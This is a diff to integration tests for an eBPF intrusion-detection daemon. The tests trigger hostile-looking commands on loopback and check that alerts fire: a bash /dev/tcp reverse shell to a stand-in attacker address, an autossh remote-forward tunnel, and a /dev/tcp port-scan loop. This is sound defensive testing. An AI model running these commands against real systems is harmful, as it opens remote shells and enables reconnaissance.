@@ -3,6 +3,7 @@ a real sshd and real peers on loopback. The eBPF tests never skip in CI."""
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
@@ -66,8 +67,18 @@ def test_ssh_remote_forward_and_autossh(guard: Daemon) -> None:
         )
         env = dict(os.environ, AUTOSSH_GATETIME="0", AUTOSSH_PATH=shutil.which("ssh") or "ssh")
         wrapped = subprocess.Popen(
-            server.ssh_argv("-M", "0", "-N", "-R", "127.0.0.1:0:localhost:22", "root@127.0.0.1", program="autossh"),
-            env=env, stderr=subprocess.DEVNULL,
+            server.ssh_argv(
+                "-M",
+                "0",
+                "-N",
+                "-R",
+                "127.0.0.1:0:localhost:22",
+                "root@127.0.0.1",
+                program="autossh",
+            ),
+            env=env,
+            stderr=subprocess.DEVNULL,
+            start_new_session=True,
         )
         try:
             first = guard.wait_alert(by_pid(tunnel.pid, "tunnel-ssh-remote-forward"))
@@ -75,13 +86,17 @@ def test_ssh_remote_forward_and_autossh(guard: Daemon) -> None:
             guard.wait_alert(by_pid(wrapped.pid, "tunnel-ssh-remote-forward"))
             # autossh's own ssh child carries the same forward
             guard.wait_alert(
-                lambda r: r["rule"] == "tunnel-ssh-remote-forward"
-                and r["lineage"] and r["lineage"][0]["pid"] == wrapped.pid
+                lambda r: (
+                    r["rule"] == "tunnel-ssh-remote-forward"
+                    and r["lineage"]
+                    and r["lineage"][0]["pid"] == wrapped.pid
+                )
             )
         finally:
-            for proc in (tunnel, wrapped):
-                proc.kill()
-                proc.wait()
+            tunnel.kill()
+            tunnel.wait()
+            os.killpg(wrapped.pid, signal.SIGKILL)  # autossh and its ssh child
+            wrapped.wait()
 
 
 def test_dev_tcp_reverse_shell(guard: Daemon) -> None:
@@ -89,18 +104,21 @@ def test_dev_tcp_reverse_shell(guard: Daemon) -> None:
         shell = subprocess.Popen(
             ["bash", "-c", f"bash -i >& /dev/tcp/127.0.6.6/{attacker.port} 0>&1"],
             stderr=subprocess.DEVNULL,
+            start_new_session=True,
         )
         try:
             wait_until(lambda: attacker.accepted)
             guard.wait_alert(by_pid(shell.pid, "shell-dev-tcp-redirect"))
             stdio = guard.wait_alert(
-                lambda r: r["rule"] == "shell-stdio-socket" and r.get("network", {}).get("daddr") == "127.0.6.6"
+                lambda r: (
+                    r["rule"] == "shell-stdio-socket"
+                    and r.get("network", {}).get("daddr") == "127.0.6.6"
+                )
             )
             assert stdio["network"]["dport"] == attacker.port
         finally:
-            shell.kill()
+            os.killpg(shell.pid, signal.SIGKILL)  # the shell and everything it ran
             shell.wait()
-            subprocess.run(["pkill", "-f", "dev/tcp/127.0.6.6"], check=False)
 
 
 SCANNER = r"""
@@ -133,7 +151,11 @@ def test_sweep_across_a_subnet(guard: Daemon) -> None:
 
 def test_bash_probe_loop_is_one_scanner(guard: Daemon) -> None:
     loop = subprocess.Popen(
-        ["bash", "-c", "for p in $(seq 1 80); do (echo >/dev/tcp/127.0.8.9/$p) 2>/dev/null && echo $p; done"],
+        [
+            "bash",
+            "-c",
+            "for p in $(seq 1 80); do (echo >/dev/tcp/127.0.8.9/$p) 2>/dev/null && echo $p; done",
+        ],
         stdout=subprocess.DEVNULL,
     )
     loop.wait()
@@ -162,7 +184,13 @@ def test_normal_work_is_quiet(guard: Daemon) -> None:
             run(["git", "init", "-q", "--bare", f"{repo}/r.git"])
             ssh_cmd = " ".join(server.ssh_argv())
             clone = subprocess.Popen(
-                ["git", "clone", "-q", f"ssh://root@127.0.0.1:{server.port}{repo}/r.git", f"{repo}/c"],
+                [
+                    "git",
+                    "clone",
+                    "-q",
+                    f"ssh://root@127.0.0.1:{server.port}{repo}/r.git",
+                    f"{repo}/c",
+                ],
                 env=dict(os.environ, GIT_SSH_COMMAND=ssh_cmd.replace(f" -p {server.port}", "")),
                 stderr=subprocess.DEVNULL,
             )
@@ -171,9 +199,11 @@ def test_normal_work_is_quiet(guard: Daemon) -> None:
             shutil.rmtree(repo, ignore_errors=True)
         guard.settle()
         noisy = guard.alerts_for(
-            lambda r: r["process"]["pid"] in quiet
-            or any(p["pid"] in quiet for p in r["lineage"])
-            or str(r.get("network", {}).get("daddr", "")).startswith("127.0.2.")
+            lambda r: (
+                r["process"]["pid"] in quiet
+                or any(p["pid"] in quiet for p in r["lineage"])
+                or str(r.get("network", {}).get("daddr", "")).startswith("127.0.2.")
+            )
         )
         assert noisy == []
     finally:
@@ -196,7 +226,9 @@ def test_hostile_argv_keeps_journal_and_log_lines_valid(guard: Daemon) -> None:
     record = guard.alerts_for(by_pid(proc.pid, "miner-only-flags"))[0]
     assert "line\nbreak" in record["process"]["cmdline"]
     assert "\\xff\\xfe\\xc3(" in record["process"]["cmdline"]
-    assert any(arg.startswith("BBBB") and "more chars" in arg for arg in record["process"]["cmdline"])
+    assert any(
+        arg.startswith("BBBB") and "more chars" in arg for arg in record["process"]["cmdline"]
+    )
     alert_lines = [line for line in guard.log.splitlines() if f"pid={proc.pid}" in line]
     assert len(alert_lines) == 1
     assert "\x1b" not in guard.log
@@ -208,7 +240,9 @@ def test_sighup_with_broken_rules_keeps_the_old_ones(tmp_path: Path) -> None:
     rule = "rules:\n  - id: site-marker\n    category: custom\n    severity: low\n    description: marker\n    match: {arg: [%s]}\n"
     rules.write_text(rule % "rg-marker-one")
     with daemon("--rules", str(rules), sensor="ebpf") as d:
-        rules.write_text("rules:\n  - id: site-marker\n    category: custom\n    severity: sometimes\n")
+        rules.write_text(
+            "rules:\n  - id: site-marker\n    category: custom\n    severity: sometimes\n"
+        )
         d.signal(signal.SIGHUP)
         log = d.wait_log("reload rejected")
         assert f"{rules}:2:" in log or f"{rules}:4:" in log
@@ -263,10 +297,8 @@ def test_systemd_notify_ready_watchdog_and_status(tmp_path: Path) -> None:
         d.wait_ready()
         deadline = time.monotonic() + 15
         while time.monotonic() < deadline and not any("WATCHDOG=1" in m for m in messages):
-            try:
+            with contextlib.suppress(TimeoutError):
                 messages.append(sock.recv(4096).decode())
-            except TimeoutError:
-                pass
         ready = [m for m in messages if "READY=1" in m]
         assert ready and "STATUS=monitor mode, ebpf sensor" in ready[0]
         assert any("WATCHDOG=1" in m for m in messages)
@@ -277,7 +309,14 @@ def test_systemd_notify_ready_watchdog_and_status(tmp_path: Path) -> None:
 
 # root without the capabilities BPF needs: what a daemon started without
 # them (or in a locked-down container) sees
-NO_BPF = ("capsh", "--drop=cap_bpf,cap_perfmon,cap_sys_admin", "--", "-c", 'exec "$@"', "rome-guard")
+NO_BPF = (
+    "capsh",
+    "--drop=cap_bpf,cap_perfmon,cap_sys_admin",
+    "--",
+    "-c",
+    'exec "$@"',
+    "rome-guard",
+)
 
 
 def test_without_ebpf_auto_falls_back_loudly_and_ebpf_refuses() -> None:
